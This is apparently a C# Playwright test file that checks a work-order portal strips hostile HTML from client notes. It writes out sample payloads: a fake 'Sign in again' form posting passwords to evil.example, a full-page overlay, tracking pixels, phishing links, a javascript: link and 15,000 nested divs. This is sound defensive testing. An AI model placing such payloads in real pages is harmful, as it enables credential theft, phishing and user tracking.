using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using TechLink.Server.Data;
using TechLink.Server.Portal;
using TechLink.Server.WorkOrders;
using TechLink.Testing;

namespace TechLink.Portal.Tests;

/// <summary>
/// Notes hold whatever HTML an API client sent (issue 16, point 1): in a real browser a hostile note must not become a
/// phishing form, an overlay of the page, a tracking pixel, or a view that takes seconds to render.
/// </summary>
[Collection(PortalCollection.Name)]
public sealed class HostileNotePortalTests(PortalFixture fixture)
{
    private const string Area = "Hostile review, round two";

    [Fact]
    public async Task HostileNote_RendersNoFormOverlayOrExternalRequest()
    {
        var page = await fixture.LogInAsync(PortalFixture.ClientUser);
        var foreign = new List<string>();
        page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(fixture.BaseUrl.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal))
            {
                lock (foreign) foreign.Add(request.Url);
            }
        };
        var pixel = fixture.Receiver.Url("/pixel-" + Guid.NewGuid().ToString("N") + ".gif");
        var marker = Guid.NewGuid().ToString("N");
        var hostile =
            $"<p>Note {marker}</p>" +
            "<form action=\"https://evil.example/steal\" method=\"post\"><input type=\"password\" name=\"p\" placeholder=\"Password\"><button>Sign in again</button></form>" +
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">Your session expired</div>" +
            "<span style=\"position:absolute;top:0;left:0\">absolute</span>" +
            $"<img src=\"{pixel}\" alt=\"pixel\"><img src=\"https://tracker.example/p.gif\">" +
            "<a href=\"https://phish.example/login\" target=\"_blank\" class=\"flash\" id=\"main\">log in here</a>" +
            "<a href=\"data:text/html,hi\">data link</a><svg><a href=\"https://phish.example/svg\">svg</a></svg>";
        await AddNoteAsync(page, hostile);

        var note = page.GetByTestId("note").Filter(new() { HasText = marker });
        await Assertions.Expect(note).ToHaveCountAsync(1);
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        var inNote = new Dictionary<string, int>();
        foreach (var selector in new[] { "form", "input", "button", "textarea", "select", "img", "svg", "[style]", "[class]", "[id]", "a[target]", "a[href^='data:']" })
        {
            inNote[selector] = await note.Locator(".note-content").Locator(selector).CountAsync();
        }

        // Nothing on the whole page is positioned over it, and nothing posts off the site.
        var positioned = await page.EvaluateAsync<int>(
            "() => [...document.querySelectorAll('.note-content *')].filter(e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length");
        var offSiteForms = await page.Locator("form[action^='http']").CountAsync();
        var links = note.Locator("a[href^='https://phish.example/login']");
        var rel = await links.First.GetAttributeAsync("rel") ?? "";
        var tracked = fixture.Receiver.Received.Count(r => r.Path.StartsWith(pixel.AbsolutePath, StringComparison.Ordinal));
        await PortalFixture.ScreenshotAsync(page, "workorder-hostile-note");
        await page.Context.CloseAsync();

        var through = inNote.Count(kv => kv.Value > 0) + (positioned > 0 ? 1 : 0) + (offSiteForms > 0 ? 1 : 0) + foreign.Count + tracked;
        ReliabilityLog.Record(Area, "Hostile note in the portal (form + password input, fixed overlay, tracking pixels, target/class/id, data: link), Chromium",
            inNote.Count + 2 + 1, through,
            $"elements that got through: {string.Join(", ", inNote.Where(kv => kv.Value > 0).Select(kv => $"{kv.Key} {kv.Value}"))}; positioned {positioned}; off-site requests {foreign.Count}");
        Assert.All(inNote, kv => Assert.True(kv.Value == 0, $"the note still holds {kv.Value} × {kv.Key}"));
        Assert.Equal(0, positioned);
        Assert.Equal(0, offSiteForms);
        Assert.Empty(foreign);
        Assert.Equal(0, tracked);
        Assert.Equal(["nofollow", "noopener", "noreferrer"], rel.Split(' ', StringSplitOptions.RemoveEmptyEntries).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task HostileNote_ImageBecomesALink_AndFormattingStays()
    {
        var page = await fixture.LogInAsync(PortalFixture.ClientUser);
        var marker = Guid.NewGuid().ToString("N");
        await AddNoteAsync(page,
            $"<p>Kept {marker}: <b>bold</b> <em>em</em> <code>code</code></p><ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>" +
            "<img src=\"https://images.example/site.jpg\" alt=\"site entrance\"><a href=\"mailto:ops@acme.example\">mail</a><a href=\"javascript:alert(1)\">js</a>");

        var note = page.GetByTestId("note").Filter(new() { HasText = marker });
        await Assertions.Expect(note.Locator("b")).ToHaveTextAsync("bold");
        await Assertions.Expect(note.Locator("em")).ToHaveTextAsync("em");
        await Assertions.Expect(note.Locator("ul > li")).ToHaveCountAsync(2);
        await Assertions.Expect(note.Locator("ol[start='3'] > li")).ToHaveTextAsync("three");
        await Assertions.Expect(note.Locator("a[href='mailto:ops@acme.example']")).ToHaveTextAsync("mail");
        // The external image is not fetched: it is a link named by its alt text.
        await Assertions.Expect(note.Locator("img")).ToHaveCountAsync(0);
        await Assertions.Expect(note.Locator("a[href='https://images.example/site.jpg']")).ToContainTextAsync("site entrance");
        await Assertions.Expect(note.Locator("a[href^='javascript']")).ToHaveCountAsync(0);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task DeeplyNestedNote_RendersBoundedElementsAndDepth()
    {
        const int Nesting = 15_000;
        var page = await fixture.LogInAsync(PortalFixture.ClientUser);
        var marker = Guid.NewGuid().ToString("N");
        await AddNoteAsync(page, string.Concat(Enumerable.Repeat("<div>", Nesting)) + "deep " + marker);

        var note = page.GetByTestId("note").Filter(new() { HasText = marker });
        await Assertions.Expect(note).ToHaveCountAsync(1);
        var shape = await note.Locator(".note-content").EvaluateAsync<int[]>(
            """
            root => {
              let elements = 0, depth = 0;
              const walk = [[root, 0]];
              while (walk.length) {
                const [e, d] = walk.pop();
                depth = Math.max(depth, d);
                for (const c of e.children) { elements++; walk.push([c, d + 1]); }
              }
              return [elements, depth];
            }
            """);
        await page.Context.CloseAsync();

        ReliabilityLog.Record(Area, $"Note nested {Nesting:N0} <div>s deep, rendered in Chromium", 1, shape[0] > NoteHtml.MaxElements || shape[1] > NoteHtml.MaxDepth ? 1 : 0,
            $"rendered: {shape[0]} elements, depth {shape[1]} (bounds {NoteHtml.MaxElements} / {NoteHtml.MaxDepth}; the default sanitizer kept all {Nesting:N0})");
        Assert.InRange(shape[0], 0, NoteHtml.MaxElements);
        Assert.InRange(shape[1], 0, NoteHtml.MaxDepth);
    }

    /// <summary>Each test writes on a work order of its own: a note on the shared one would weigh on every other test's view.</summary>
    private async Task AddNoteAsync(IPage page, string content)
    {
        long workOrderId;
        await using (var scope = fixture.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<TechLinkDbContext>();
            var site = await db.Sites.FirstAsync(s => s.CompanyId == fixture.CompanyId);
            var now = DateTime.UtcNow;
            var workOrder = new WorkOrder { CompanyId = fixture.CompanyId, SiteId = site.Id, Title = "Hostile note", ClientReference = "PO-H", CreatedAt = now, UpdatedAt = now };
            db.WorkOrders.Add(workOrder);
            await db.SaveChangesAsync();
            workOrderId = workOrder.Id;
        }

        await page.GotoAsync($"/companies/{fixture.CompanyId}/workorders/{workOrderId}");
        await page.GetByLabel("Note", new() { Exact = true }).FillAsync(content);
        await page.GetByRole(AriaRole.Button, new() { Name = "Add note" }).ClickAsync();
        await Assertions.Expect(page.GetByRole(AriaRole.Status)).ToContainTextAsync("Note added");
        await page.ReloadAsync();
    }
}
